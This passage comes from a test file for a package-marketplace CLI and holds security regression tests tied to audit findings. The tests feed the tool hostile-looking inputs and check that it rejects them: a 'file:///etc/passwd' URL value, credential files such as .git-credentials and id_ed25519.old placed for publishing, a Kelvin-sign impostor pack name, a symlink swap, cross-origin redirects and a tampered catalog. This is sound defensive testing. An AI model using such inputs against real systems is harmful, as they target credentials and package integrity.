    expect(v1Clash.stderr).toMatch(/^error GGEN_E_NAME_TAKEN: agent_editor reads as agent-editor/m);
  });

  it('refuses a frozen install of a lockfile that requests a pack it does not lock', async () => {
    const home = freshHome();
    const project = mkdtempSync(join(tmpdir(), 'ggen-project-'));
    const target = join(project, 'gpacks');
    expect(
      (await runGgen(['marketplace', 'install', 'agent-editor', '--backend', 'v2', '--target', target], { home })).code,
    ).toBe(0);
    const lockPath = join(project, 'ggen.lock');
    const lock = JSON.parse(readFileSync(lockPath, 'utf8')) as { requested: Record<string, string> };
    lock.requested['agent-memory-forge'] = '^1.0.0';
    writeFileSync(lockPath, JSON.stringify(lock));
    const run = await runGgen(['marketplace', 'install', '--frozen-lockfile', '--backend', 'v2', '--target', target], {
      home,
    });
    expect(run.stderr).toMatch(
      /^error GGEN_E_FROZEN_LOCKFILE: .*ggen\.lock does not hold together: it requests agent-memory-forge but does not lock it$/m,
    );
    expect(run.code).toBe(5);
  });

  it('never publishes .dockercfg or key backups, and refuses a pack no install could take', async () => {
    const home = freshHome();
    const registry = copyOfSampleRegistry();
    const dir = writePack(join(home, 'careful'), 'careful-secrets', '1.0.0');
    for (const secret of ['.dockercfg', 'signing.key.bak', 'id_ed25519.old', '.git-credentials'])
      writeFileSync(join(dir, secret), 'secret');
    const dry = await runGgen(['marketplace', 'publish', dir, '--registry', registry, '--dry-run'], { home });
    expect(dry.code).toBe(0);
    expect(dry.stdout).toContain(
      'left out as secrets (never published): .dockercfg, .git-credentials, id_ed25519.old, signing.key.bak',
    );
    const big = writePack(join(home, 'big'), 'too-big-pack', '1.0.0');
    // Sparse: 300 MB that takes no disk.
    execFileSync('truncate', ['-s', '300M', join(big, 'templates', 'huge.bin')]);
    const refused = await runGgen(['marketplace', 'publish', big, '--registry', registry], { home });
    expect(refused.stderr).toMatch(
      /^error GGEN_E_ARCHIVE_TOO_LARGE: .*big would pack into 314572\d{3} bytes of files; an install unpacks at most 268435456; no one could install it$/m,
    );
    expect(refused.code).toBe(6);
  });
});

describe('registry push honours timeout_ms (low finding)', () => {
  it('gives up on a Graph Store that never answers, with a coded timeout', async () => {
    const home = freshHome();
    const sockets: import('node:net').Socket[] = [];
    const silent = createNetServer((socket) => sockets.push(socket));
    await new Promise<void>((resolve) => silent.listen(0, '127.0.0.1', resolve));
    const port = (silent.address() as AddressInfo).port;
    try {
      const run = await runGgen(['marketplace', 'registry', 'push'], {
        home,
        env: {
          GGEN_MARKETPLACE_SPARQL_ENDPOINT: `http://127.0.0.1:${port}/sparql`,
          GGEN_MARKETPLACE_SPARQL_GRAPH_STORE: `http://127.0.0.1:${port}/sparql-graph-crud-auth`,
          GGEN_MARKETPLACE_SPARQL_USER: 'dba',
          GGEN_MARKETPLACE_SPARQL_PASSWORD: 'secret',
          GGEN_MARKETPLACE_TIMEOUT_MS: '500',
        },
      });
      // The push asks the query endpoint first (which catalog is in place), then the Graph Store: either way a coded timeout.
      expect(run.stderr).toMatch(
        /^error GGEN_E_(REGISTRY|SPARQL)_TIMEOUT: No answer from the (Graph Store|SPARQL endpoint) http:\/\/127\.0\.0\.1:\d+\/sparql.* within 500 ms/m,
      );
      expect(run.stderr).not.toContain('secret');
      expect(run.code).toBe(8);
    } finally {
      for (const socket of sockets) socket.destroy();
      silent.close();
    }
  });
});

describe('more low findings, each through the CLI', () => {
  it('does not let a Kelvin-sign entry shadow kit in a v1 index', async () => {
    const home = freshHome();
    const pack = (name: string): Buffer =>
      buildTgz([
        { path: 'gpack.yaml', content: `name: kit\nversion: 1.0.0\ndescription: d\n` },
        { path: 'templates/x.tmpl', content: name },
      ]);
    const registry = writeV1Registry([
      { name: '\u212Ait', archive: pack('impostor'), description: 'the impostor' },
      { name: 'kit', archive: pack('real'), description: 'the real kit' },
    ]);
    const info = await runGgen(['marketplace', 'info', 'kit', '--backend', 'v1', '--registry', registry, '--json'], {
      home,
    });
    expect(info.code).toBe(0);
    expect((JSON.parse(info.stdout) as { description: string }).description).toBe('the real kit');
  });

  it('follows a registry redirect only within its origin', async () => {
    const home = freshHome();
    let elsewhere = 0;
    const other = createServer((_request, response) => {
      elsewhere += 1;
      response.end('{}');
    });
    await new Promise<void>((resolve) => other.listen(0, '127.0.0.1', resolve));
    const otherPort = (other.address() as AddressInfo).port;
    const registry = writeV1Registry([
      {
        name: 'kit',
        archive: buildTgz([{ path: 'gpack.yaml', content: 'name: kit\nversion: 1.0.0\ndescription: d\n' }]),
      },
    ]);
    const index = readFileSync(join(registry, 'index.json'));
    let target = `http://127.0.0.1:${otherPort}/index.json`;
    const server = createServer((request, response) => {
      if (request.url === '/index.json') {
        response.writeHead(302, { location: target });
        response.end();
      } else if (request.url === '/moved/index.json') response.end(index);
      else response.writeHead(404).end();
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const port = (server.address() as AddressInfo).port;
    try {
      const away = await runGgen(
        ['marketplace', 'search', 'kit', '--backend', 'v1', '--registry', `http://127.0.0.1:${port}`],
        { home },
      );
      expect(away.stderr).toMatch(
        /^error GGEN_E_REGISTRY_HTTP: GET http:\/\/127\.0\.0\.1:\d+\/index\.json redirected to http:\/\/127\.0\.0\.1:\d+, another origin; not followed$/m,
      );
      expect(away.code).toBe(8);
      expect(elsewhere).toBe(0);
      target = '/moved/index.json';
      const home2 = freshHome();
      const moved = await runGgen(
        ['marketplace', 'search', 'kit', '--backend', 'v1', '--registry', `http://127.0.0.1:${port}`],
        { home: home2 },
      );
      expect(moved.stderr).not.toMatch(/error/);
      expect(moved.stdout).toContain('kit');
    } finally {
      server.close();
      other.close();
    }
  });

  it('takes only http(s) URLs for URL keys, and never prints a password or URL credentials', async () => {
    const home = freshHome();
    const scheme = await runGgen(['marketplace', 'config', 'show'], {
      home,
      env: { GGEN_MARKETPLACE_PUSHGATEWAY_URL: 'file:///etc/passwd' },
    });
    expect(scheme.stderr).toMatch(/^error GGEN_E_CONFIG_INVALID: .*must be an http:\/\/ or https:\/\/ URL/m);
    expect(scheme.code).toBe(2);
    mkdirSync(join(home, '.config', 'ggen'), { recursive: true });
    writeFileSync(
      join(home, '.config', 'ggen', 'config.yaml'),
      'marketplace:\n  sparql_password: hunter2\n  pushgateway_url: http://fleet:s3cret@127.0.0.1:9/\n  sparql_endpoint: http://127.0.0.1:9/sparql\n',
    );
    for (const args of [
      ['config', 'show'],
      ['config', 'show', '--json'],
    ]) {
      const run = await runGgen(['marketplace', ...args], { home });
      expect(run.code).toBe(0);
      expect(run.stdout).toContain('http://***@127.0.0.1:9/');
      expect(`${run.stdout}${run.stderr}`).not.toMatch(/hunter2|s3cret/);
    }
    // A failed push names the gateway without its credentials.
    const search = await runGgen(['marketplace', 'search', 'agent', '--backend', 'v1'], { home });
    expect(search.stderr).toContain('warning: could not push metrics to http://***@127.0.0.1:9/');
    expect(search.stderr).not.toContain('s3cret');
  });

  it('does not follow an installed package directory that became a link', async () => {
    const home = freshHome();
    const target = join(home, 'gpacks');
    expect(
      (await runGgen(['marketplace', 'install', 'agent-editor', '--backend', 'v2', '--target', target], { home })).code,
    ).toBe(0);
    const elsewhere = mkdtempSync(join(tmpdir(), 'ggen-elsewhere-'));
    writeFileSync(join(elsewhere, 'precious.txt'), 'keep me');
    rmSync(join(target, 'agent-editor'), { recursive: true });
    symlinkSync(elsewhere, join(target, 'agent-editor'));
    const list = await runGgen(['marketplace', 'list', '--target', target, '--json'], { home });
    expect(
      (JSON.parse(list.stdout) as { name: string; status: string }[]).find((entry) => entry.name === 'agent-editor')
        ?.status,
    ).toBe('modified');
    const remove = await runGgen(['marketplace', 'remove', 'agent-editor', '--target', target], { home });
    expect(remove.stderr).toContain(`kept ${join(target, 'agent-editor')}: its files are not what ggen installed`);
    expect(readFileSync(join(elsewhere, 'precious.txt'), 'utf8')).toBe('keep me');
  });
});

describe('SPARQL endpoint answers are bounded and checked (finding 12)', () => {
  it('codes a CONSTRUCT answer that is not N-Triples and a SELECT answer that is not JSON, as the endpoint’s failure', async () => {
    const home = freshHome();
    const endpoint = createServer((request, response) => {
      let body = '';
      request.on('data', (chunk: Buffer) => (body += chunk.toString('utf8')));
      request.on('end', () => {
        const query = decodeURIComponent(body.replaceAll('+', ' '));
        const construct = query.includes('CONSTRUCT');
        response.writeHead(200, {
          'content-type': construct ? 'application/n-triples' : 'application/sparql-results+json',
        });
        // Which catalog graph is in place: none named (a well-formed empty answer), so the catalog queries come next.
        if (query.includes('catalog-meta'))
          response.end('{"head": {"vars": ["current"]}, "results": {"bindings": []}}');
        else
          response.end(
            construct
              ? '<html>a proxy error page, not triples</html>\n'
              : '{"head": {"vars": ["name"]}, "results": {"bindings": [',
          );
      });
    });
    await new Promise<void>((resolve) => endpoint.listen(0, '127.0.0.1', resolve));
    const env = {
      GGEN_MARKETPLACE_SPARQL_ENDPOINT: `http://127.0.0.1:${(endpoint.address() as AddressInfo).port}/sparql`,
    };
    try {
      const info = await runGgen(['marketplace', 'info', 'agent-editor', '--backend', 'v2'], { home, env });
      expect(info.stderr).toMatch(
        /^error GGEN_E_BACKEND_MALFORMED: The SPARQL endpoint http:\/\/127\.0\.0\.1:\d+\/sparql answered with a body that is not N-Triples: /m,
      );
      expect(info.stderr).not.toContain('GGEN_E_INTERNAL');
      expect(info.code).toBe(8);
      const search = await runGgen(['marketplace', 'search', 'agent', '--backend', 'v2'], { home, env });
      expect(search.stderr).toMatch(
        /^error GGEN_E_BACKEND_MALFORMED: The SPARQL endpoint http:\/\/127\.0\.0\.1:\d+\/sparql answered with a body that is not JSON: /m,
      );
      expect(search.code).toBe(8);
    } finally {
      endpoint.close();
    }
  });
});

describe('a catalog cannot hide that a pack is owned (with finding 8)', () => {
  it('refuses a verified install of an owned pack whose catalog entry names no owner', async () => {
    const home = freshHome();
    const alice = await keygen(home, 'alice');
    const registry = copyOfSampleRegistry();
    expect((await publish(home, registry, alice.path, 'hidden-owner', '1.0.0')).code).toBe(0);
    const catalogPath = join(registry, 'catalog.nq');
    const lines = readFileSync(catalogPath, 'utf8').split('\n');
    const kept = lines.filter((line) => !line.includes('#ownerKey>'));
    expect(kept.length).toBeLessThan(lines.length);
    const dropped = lines.length - kept.length;
    writeFileSync(
      catalogPath,
      kept
        .join('\n')
        .replace(
          /^(.*#quadCount> )"(\d+)"(.*)$/m,
          (_line, head: string, count: string, tail: string) => `${head}"${Number(count) - dropped}"${tail}`,
        ),
    );
    const run = await runGgen(
      ['marketplace', 'install', 'hidden-owner', '--registry', registry, '--backend', 'v2', '--verify-signature'],
      {
        home: freshHome(),
        env: { GGEN_MARKETPLACE_TRUSTED_KEYS: alice.publicKey },
      },
    );
    expect(run.stderr).toMatch(/^error GGEN_E_OWNER_CHAIN_INVALID: The catalog hides the owners of hidden-owner/m);
    expect(run.code).toBe(6);
  });
});
